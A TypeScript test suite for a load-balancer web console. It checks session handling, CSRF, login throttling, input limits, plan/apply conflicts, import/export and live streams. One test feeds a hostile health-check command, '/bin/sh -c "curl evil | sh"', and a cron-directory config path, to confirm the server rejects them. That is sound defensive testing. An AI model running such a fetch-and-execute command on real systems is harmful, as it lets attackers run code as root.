// The console's server as a browser and an attacker meet it: nothing without a session,
// sessions and their cookie, CSRF on every change, slowed-down guessing, bounded input,
// changes through the daemon's dry run and compare-and-swap, import and export.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { consoleHarness, cookieOf, PASSWORD } from './harness.js';
import { PAGES } from '../../../src/console/server.js';
import { formatSave } from '../../../src/cli/ipvsadm/index.js';
import { currentConfig } from '../../../src/cli/restore-rules.js';
import type { DesiredState } from '../../../src/core/model.js';
import { until } from '../../lib/wait.js';

const SVC = {
  vip: '203.0.113.10', port: 80, protocol: 'tcp' as const, scheduler: 'rr' as const, flags: [], persistence: 0, persistenceMask: '', method: 'nat' as const,
  reals: [{ address: '198.51.100.1', port: 8080, method: 'nat' as const, weight: 1, upperThreshold: 0, lowerThreshold: 0 }],
};
const INITIAL: DesiredState = { services: [SVC], timeouts: { tcp: 900, tcpFin: 120, udp: 300 } };

const API_GETS = ['/api/session', '/api/config', '/api/snapshot', '/api/history?service=tcp%7C203.0.113.10%7C80', '/api/export/ipvx.yaml', '/api/export/ipvsadm-rules', '/api/live'];
const API_POSTS = ['/api/plan', '/api/apply', '/api/import', '/api/logout'];

test('without a session every page redirects to the login page and every API call is refused; the login page and assets are public', async () => {
  const h = await consoleHarness({ initial: INITIAL });
  try {
    for (const p of PAGES.map((x) => x.replace('*', 'tcp/203.0.113.10/80'))) {
      const r = await h.app.inject({ method: 'GET', url: p });
      assert.equal(r.statusCode, 302, p);
      assert.match(String(r.headers.location), /^\/login\?next=/, p);
      assert.doesNotMatch(r.body, /app/, `${p} sends no page`);
    }
    for (const p of API_GETS) {
      const r = await h.app.inject({ method: 'GET', url: p, headers: { accept: p === '/api/live' ? 'text/event-stream' : 'application/json' } });
      assert.equal(r.statusCode, 401, p);
      assert.doesNotMatch(r.body, /203\.0\.113\.10/, `${p} gives nothing away`);
    }
    for (const p of API_POSTS) {
      const r = await h.app.inject({ method: 'POST', url: p, payload: { state: INITIAL, serial: '1', text: 'x' } });
      assert.equal(r.statusCode, 401, p);
    }
    // A forged or stale cookie is no session either.
    const forged = await h.app.inject({ method: 'GET', url: '/api/config', headers: { cookie: 'ipvx_session=abc.def' } });
    assert.equal(forged.statusCode, 401);
    assert.equal((await h.app.inject({ method: 'GET', url: '/login' })).statusCode, 200);
    assert.equal((await h.app.inject({ method: 'GET', url: '/assets/app.js' })).statusCode, 200);
    assert.equal((await h.app.inject({ method: 'GET', url: '/nothing' })).statusCode, 302, 'unknown pages too');
  } finally { await h.close(); }
});

test('login: a wrong password or user is refused (and logged without the password); the session cookie is HttpOnly and SameSite=Strict; logout ends it', async () => {
  const h = await consoleHarness({ initial: INITIAL });
  try {
    const wrong = await h.app.inject({ method: 'POST', url: '/api/login', payload: { user: 'admin', password: 'not-the-password' } });
    assert.equal(wrong.statusCode, 401);
    assert.equal(wrong.headers['set-cookie'], undefined, 'no session for a failed login');
    assert.match(h.logs.join(''), /console login failed/);
    assert.doesNotMatch(h.logs.join(''), /not-the-password/, 'the password is never logged');
    await new Promise((r) => setTimeout(r, 1100)); // the throttle's first wait
    const nobody = await h.app.inject({ method: 'POST', url: '/api/login', payload: { user: 'root', password: PASSWORD } });
    assert.equal(nobody.statusCode, 401, 'an unknown user with a known password');
    await new Promise((r) => setTimeout(r, 2100));

    const ok = await h.app.inject({ method: 'POST', url: '/api/login', payload: { user: 'admin', password: PASSWORD } });
    assert.equal(ok.statusCode, 200, ok.body);
    const set = String(ok.headers['set-cookie']);
    assert.match(set, /HttpOnly/);
    assert.match(set, /SameSite=Strict/);
    assert.doesNotMatch(h.logs.join(''), new RegExp(PASSWORD));
    const cookie = cookieOf(ok);
    const cfg = await h.app.inject({ method: 'GET', url: '/api/config', headers: { cookie } });
    assert.equal(cfg.statusCode, 200);
    const page = await h.app.inject({ method: 'GET', url: '/services', headers: { cookie } });
    assert.equal(page.statusCode, 200);
    assert.match(page.body, /id="app"/);
    assert.equal(page.headers['cache-control'], 'no-store');
    assert.match(String(page.headers['content-security-policy']), /script-src 'self'/);
    assert.match(String(page.headers['content-security-policy']), /frame-ancestors 'none'/);

    const csrf = (await h.app.inject({ method: 'GET', url: '/api/session', headers: { cookie } })).json().csrfToken as string;
    const out = await h.post({ cookie, csrf }, '/api/logout', {});
    assert.equal(out.statusCode, 204);
    assert.equal((await h.app.inject({ method: 'GET', url: '/api/config', headers: { cookie } })).statusCode, 401, 'the old cookie is worth nothing');
  } finally { await h.close(); }
});

test('failed logins slow the client down: the next attempt waits, parallel guesses are refused, a success resets', async () => {
  const h = await consoleHarness();
  try {
    const bad = () => h.app.inject({ method: 'POST', url: '/api/login', payload: { user: 'admin', password: 'guess' } });
    assert.equal((await bad()).statusCode, 401);
    const again = await bad();
    assert.equal(again.statusCode, 429, 'at once after a failure');
    assert.match(again.json().error, /too many failed logins/);
    assert.ok(Number(again.headers['retry-after']) >= 1);
    // Even the right password waits: the client has to slow down, not find the answer faster.
    assert.equal((await h.app.inject({ method: 'POST', url: '/api/login', payload: { user: 'admin', password: PASSWORD } })).statusCode, 429);
    await new Promise((r) => setTimeout(r, 1100));
    const parallel = await Promise.all([bad(), bad(), bad()]);
    assert.deepEqual(parallel.map((r) => r.statusCode).sort(), [401, 429, 429], 'one attempt at a time per client');
  } finally { await h.close(); }
});

test('@fastify/rate-limit caps all login attempts per client, good ones too', async () => {
  const h = await consoleHarness({ loginsPerMinute: 3 });
  try {
    const codes = [];
    for (let i = 0; i < 4; i++) codes.push((await h.app.inject({ method: 'POST', url: '/api/login', payload: { user: 'admin', password: PASSWORD } })).statusCode);
    assert.deepEqual(codes, [200, 200, 200, 429]);
  } finally { await h.close(); }
});

test('a change without the CSRF token, with a wrong one, or from a form, is refused and changes nothing', async () => {
  const h = await consoleHarness({ initial: INITIAL });
  try {
    const { cookie, csrf } = await h.login();
    const { serial } = await h.config(cookie);
    const next = { ...INITIAL, services: [{ ...SVC, scheduler: 'wlc' }] };
    const before = await currentConfig(h.api.client);
    const none = await h.app.inject({ method: 'POST', url: '/api/apply', headers: { cookie }, payload: { state: next, serial } });
    assert.equal(none.statusCode, 403);
    assert.match(none.json().error, /CSRF/);
    const wrong = await h.app.inject({ method: 'POST', url: '/api/apply', headers: { cookie, 'x-csrf-token': `${csrf}x` }, payload: { state: next, serial } });
    assert.equal(wrong.statusCode, 403);
    const form = await h.app.inject({ method: 'POST', url: '/api/apply', headers: { cookie, 'x-csrf-token': csrf, 'content-type': 'application/x-www-form-urlencoded' }, payload: 'state=x' });
    assert.equal(form.statusCode, 415);
    // Another session's token does not fit this one.
    const other = await h.login();
    const foreign = await h.app.inject({ method: 'POST', url: '/api/apply', headers: { cookie, 'x-csrf-token': other.csrf }, payload: { state: next, serial } });
    assert.equal(foreign.statusCode, 403);
    assert.deepEqual(await currentConfig(h.api.client), before, 'nothing changed');
    assert.match(h.logs.join(''), /no valid CSRF token/);

    const good = await h.post({ cookie, csrf }, '/api/apply', { state: next, serial });
    assert.equal(good.statusCode, 200, good.body);
    assert.equal((await currentConfig(h.api.client)).state.services[0]!.scheduler, 'wlc');
  } finally { await h.close(); }
});

test('a session ends after its idle time and after its maximum, whatever it does', async () => {
  const h = await consoleHarness({ initial: INITIAL, sessions: { idleMs: 300, maxMs: 1500 } });
  try {
    const { cookie, csrf } = await h.login();
    const serial = (await currentConfig(h.api.client)).serial;
    await new Promise((r) => setTimeout(r, 400));
    const late = await h.post({ cookie, csrf }, '/api/apply', { state: { ...INITIAL, services: [] }, serial });
    assert.equal(late.statusCode, 401);
    assert.match(late.json().error, /expired/);
    assert.equal((await currentConfig(h.api.client)).state.services.length, 1, 'nothing changed');
    assert.equal((await h.app.inject({ method: 'GET', url: '/api/config', headers: { cookie } })).statusCode, 401, 'and stays ended');

    // Busy (a request every 100 ms, past its idle time many times over) until its maximum.
    const s2 = await h.login();
    const born = Date.now();
    let ended = 0;
    while (Date.now() - born < 3000) {
      await new Promise((r) => setTimeout(r, 100));
      const at = Date.now() - born;
      const r = await h.app.inject({ method: 'GET', url: '/api/config', headers: { cookie: s2.cookie } });
      if (r.statusCode === 401) { ended = at; break; }
      assert.equal(r.statusCode, 200);
    }
    assert.ok(ended >= 1400 && ended < 2200, `ended after its maximum of 1.5 s, at ${ended} ms`);
  } finally { await h.close(); }
});

test('plan shows the daemon\'s diff without changing anything; apply changes; a stale serial is a conflict; the daemon\'s field errors are passed on', async () => {
  const h = await consoleHarness({ initial: INITIAL });
  try {
    const { cookie, csrf } = await h.login();
    const post = (url: string, payload: object) => h.post({ cookie, csrf }, url, payload);
    const { state, serial } = await h.config(cookie);
    const next = structuredClone(state);
    next.services[0]!.reals.push({ address: '198.51.100.2', port: 8080, method: 'nat', weight: 2, upperThreshold: 0, lowerThreshold: 0 });
    const plan = await post('/api/plan', { state: next, serial });
    assert.equal(plan.statusCode, 200, plan.body);
    assert.deepEqual(plan.json().changes.map((c: { op: string; detail: string }) => `${c.op} ${c.detail}`), ['+ tcp 203.0.113.10:80 -> 198.51.100.2:8080 nat weight 2']);
    assert.equal(plan.json().applied, false);
    assert.equal((await currentConfig(h.api.client)).state.services[0]!.reals.length, 1, 'a plan changes nothing');

    const applied = await post('/api/apply', { state: next, serial });
    assert.equal(applied.statusCode, 200);
    assert.equal(applied.json().applied, true);
    assert.equal(applied.json().serial, String(Number(serial) + 1));
    assert.equal((await currentConfig(h.api.client)).state.services[0]!.reals.length, 2);

    // A second editor who read the configuration before that change.
    const stale = structuredClone(state);
    stale.services[0]!.scheduler = 'wlc';
    for (const url of ['/api/plan', '/api/apply']) {
      const r = await post(url, { state: stale, serial });
      assert.equal(r.statusCode, 409, url);
      assert.match(r.json().error, /changed since it was read/);
    }
    const now = await currentConfig(h.api.client);
    assert.equal(now.state.services[0]!.scheduler, 'rr', 'the stale edit did not overwrite');
    assert.equal(now.state.services[0]!.reals.length, 2, 'and the other editor\'s real is still there');

    const bad = structuredClone(now.state);
    bad.services[0]!.reals[1]!.weight = 70000;
    const refused = await post('/api/plan', { state: bad, serial: now.serial });
    assert.equal(refused.statusCode, 400);
    assert.deepEqual(refused.json().fields, [{ field: 'services[0].reals[1].weight', message: '70000 is not a weight (0-65535)' }]);
    const typo = await post('/api/plan', { state: { ...now.state, services: [{ ...now.state.services[0], schedular: 'rr' }] }, serial: now.serial });
    assert.equal(typo.statusCode, 400);
    assert.equal(typo.json().fields[0].field, 'services[0].schedular');
  } finally { await h.close(); }
});

test('the daemon logs each console change with the user and the browser\'s address, and Watch carries it', async () => {
  const h = await consoleHarness({ initial: INITIAL });
  try {
    const { cookie, csrf } = await h.login();
    const { state, serial } = await h.config(cookie);
    const next = structuredClone(state);
    next.services[0]!.reals[0]!.weight = 0;
    const before = h.link.recent.length;
    const r = await h.app.inject({ method: 'POST', url: '/api/apply', headers: { cookie, 'x-csrf-token': csrf }, payload: { state: next, serial }, remoteAddress: '192.0.2.77' });
    assert.equal(r.statusCode, 200, r.body);
    for (let i = 0; i < 50 && h.link.recent.length === before; i++) await new Promise((x) => setTimeout(x, 20));
    const e = h.link.recent.at(-1)!;
    assert.equal(e.kind, 'config');
    assert.equal(e.origin, 'console user admin from 192.0.2.77 (via local socket)');
    assert.match(e.changes[0]!.detail, /weight 1 -> 0/);
  } finally { await h.close(); }
});

test('secrets never reach the browser, and what runs as root or writes files cannot be set from it', async () => {
  const initial: DesiredState = {
    ...INITIAL,
    services: [{ ...SVC, health: { check: { type: 'exec', command: '/usr/local/bin/check-app %h' }, interval: 6, timeout: 3, rise: 1, fall: 1, onFailure: 'quiesce' } }],
    ha: { enabled: false, localAddress: '192.0.2.1', peerAddress: '192.0.2.2', port: 539, keepalive: 2, deadtime: 6, priority: 100, preempt: true, preemptDelay: 0, key: 'the-ha-key', vips: [] },
  };
  const h = await consoleHarness({ initial });
  try {
    const { cookie, csrf } = await h.login();
    const got = await h.app.inject({ method: 'GET', url: '/api/config', headers: { cookie } });
    assert.doesNotMatch(got.body, /the-ha-key/);
    const { state, serial } = got.json() as { state: DesiredState; serial: string };
    assert.equal(state.ha!.key, '(unchanged)');
    const post = (payload: object) => h.post({ cookie, csrf }, '/api/plan', payload);

    // Sent back masked: the key stays; the existing exec check may stay as it is.
    const same = structuredClone(state);
    same.services[0]!.scheduler = 'wlc';
    const ok = await post({ state: same, serial });
    assert.equal(ok.statusCode, 200, ok.body);
    assert.deepEqual(ok.json().changes.map((c: { kind: string }) => c.kind), ['service'], 'the key did not change');

    const exec = structuredClone(state);
    exec.services[0]!.health!.check = { type: 'exec', command: '/bin/sh -c "curl evil | sh"' };
    const r = await post({ state: exec, serial });
    assert.equal(r.statusCode, 400);
    assert.equal(r.json().fields[0].field, 'services[0].health.check.command');
    assert.match(r.json().fields[0].message, /configuration file on the director/);
    const bird = structuredClone(state) as DesiredState & { bgp: object };
    bird.bgp = { enabled: false, localAs: 65000, peers: [], birdConfig: '/etc/cron.d/x' } as never;
    const rb = await post({ state: bird, serial });
    assert.equal(rb.statusCode, 400);
    assert.equal(rb.json().fields[0].field, 'bgp.birdConfig');
  } finally { await h.close(); }
});

test('bounded input: bodies past their limit and oversized fields are refused before any work', async () => {
  const h = await consoleHarness({ initial: INITIAL });
  try {
    const { cookie, csrf } = await h.login();
    const big = await h.post({ cookie, csrf }, '/api/import', { text: 'x'.repeat((1 << 20) + 1) });
    assert.equal(big.statusCode, 400, 'a file over 1 MiB');
    const huge = await h.app.inject({ method: 'POST', url: '/api/import', headers: { cookie, 'x-csrf-token': csrf, 'content-type': 'application/json' }, payload: JSON.stringify({ text: 'x'.repeat(5 << 20) }) });
    assert.equal(huge.statusCode, 413);
    const login = await h.app.inject({ method: 'POST', url: '/api/login', payload: { user: 'admin', password: 'x'.repeat(5000) } });
    assert.equal(login.statusCode, 413);
    const extra = await h.post({ cookie, csrf }, '/api/plan', { state: INITIAL, serial: '1', sneaky: true });
    assert.equal(extra.statusCode, 400);
  } finally { await h.close(); }
});

test('import shows what a piranha lvs.cf imports and what it cannot, changing nothing; export is ipvx YAML and the CLI\'s ipvsadm -S -n', async () => {
  const h = await consoleHarness({ initial: INITIAL });
  try {
    const { cookie, csrf } = await h.login();
    const text = readFileSync(new URL('../../../../../test/fixtures/ipvsadm/piranha-lvs.cf', import.meta.url), 'utf8');
    const r = await h.post({ cookie, csrf }, '/api/import', { text, name: 'lvs.cf' });
    assert.equal(r.statusCode, 200, r.body);
    const p = r.json();
    assert.equal(p.format, 'lvs.cf');
    assert.deepEqual(p.state.services.map((s: { vip: string; port: number; scheduler: string }) => `${s.vip}:${s.port} ${s.scheduler}`), ['10.0.0.50:80 wlc']);
    assert.deepEqual(p.unmapped.map((u: { line: number }) => u.line), [1, 11, 12, 13]);
    assert.deepEqual(p.problems.map((x: { field: string }) => x.field), ['ha.key']);
    assert.equal((await currentConfig(h.api.client)).state.services[0]!.vip, '203.0.113.10', 'an import changes nothing by itself');
    const bad = await h.post({ cookie, csrf }, '/api/import', { text: 'virtual_server 1.2.3.4 80 {\n  lb_algo nope\n' });
    assert.equal(bad.statusCode, 400);

    const rules = await h.app.inject({ method: 'GET', url: '/api/export/ipvsadm-rules', headers: { cookie } });
    assert.equal(rules.body, formatSave((await currentConfig(h.api.client)).state, true));
    assert.equal(rules.body, '-A -t 203.0.113.10:80 -s rr\n-a -t 203.0.113.10:80 -r 198.51.100.1:8080 -m -w 1\n');
    assert.match(String(rules.headers['content-disposition']), /^attachment; filename="ipvsadm-rules-/);
    const yaml = await h.app.inject({ method: 'GET', url: '/api/export/ipvx.yaml', headers: { cookie } });
    assert.match(yaml.body, /vip: 203\.0\.113\.10/);
  } finally { await h.close(); }
});

test('the live stream sends polls and the daemon\'s events, ends when its session ends, and is bounded per session', async () => {
  const h = await consoleHarness({ initial: INITIAL, sessions: { idleMs: 1500 } });
  const open: import('node:http').ClientRequest[] = [];
  try {
    await h.app.listen({ host: '127.0.0.1', port: 0 });
    const port = (h.app.server.address() as { port: number }).port;
    const { cookie } = await h.login();
    const { get } = await import('node:http');
    const stream = () => new Promise<{ status: number; text: () => string; ended: Promise<void> }>((resolve, reject) => {
      const req = get({ host: '127.0.0.1', port, path: '/api/live', headers: { cookie, accept: 'text/event-stream' } }, (res) => {
        let text = '';
        res.on('data', (d: Buffer) => { text += d.toString(); });
        resolve({ status: res.statusCode ?? 0, text: () => text, ended: new Promise((r) => res.on('close', () => r())) });
      });
      req.on('error', reject);
      open.push(req);
    });
    const s = await stream();
    assert.equal(s.status, 200);
    await h.api.client.addReal({ vip: SVC.vip, port: 80, protocol: 'tcp' }, { address: '198.51.100.9', port: 8080, weight: 1 });
    for (let i = 0; i < 50 && !/event: event/.test(s.text()); i++) await new Promise((r) => setTimeout(r, 50));
    assert.match(s.text(), /event: frame\ndata: \{"at":\d+,"status":/);
    assert.match(s.text(), /event: event\ndata: .*198\.51\.100\.9/);
    const more = [];
    for (let i = 1; i < 16; i++) more.push(await stream());
    assert.ok(more.every((x) => x.status === 200));
    const over = await stream();
    assert.equal(over.status, 429, 'the 17th stream of one session');
    // No request but the streams: the session goes idle, and the streams are told and closed.
    await s.ended;
    assert.match(s.text(), /event: expired\ndata: \{"reason":"your session has expired"\}/);
  } finally {
    for (const r of open) r.destroy();
    await h.close();
  }
});

test('the daemon stopping and coming back: pages are told (503, link down) and the console follows it again by itself', { timeout: 60_000 }, async () => {
  const h = await consoleHarness({ initial: INITIAL });
  let restarted: { close(): Promise<void> } | undefined;
  try {
    const { cookie } = await h.login();
    await until('the first poll', () => h.link.connected);
    const { startServer } = await import('../../../src/api/server.js');
    await h.api.server.close();
    await until('the link to see the daemon gone', () => !h.link.connected && !h.link.watching, 5000);
    const down = await h.app.inject({ method: 'GET', url: '/api/config', headers: { cookie } });
    assert.equal(down.statusCode, 503);
    assert.match(down.json().error, /does not answer/);
    restarted = await startServer({ controller: h.api.controller, socketPath: h.api.socket });
    await until('the link to follow the daemon again', () => h.link.connected && h.link.watching, 10_000);
    assert.equal((await h.app.inject({ method: 'GET', url: '/api/config', headers: { cookie } })).statusCode, 200);
    const before = h.link.recent.length;
    await h.api.client.addReal({ vip: SVC.vip, port: 80, protocol: 'tcp' }, { address: '198.51.100.8', port: 8080, weight: 1 });
    await until('the Watch stream to be followed again', () => h.link.recent.length > before, 10_000);
  } finally {
    await restarted?.close(); // the harness closes the daemon it started, already closed here
    await h.close();
  }
});
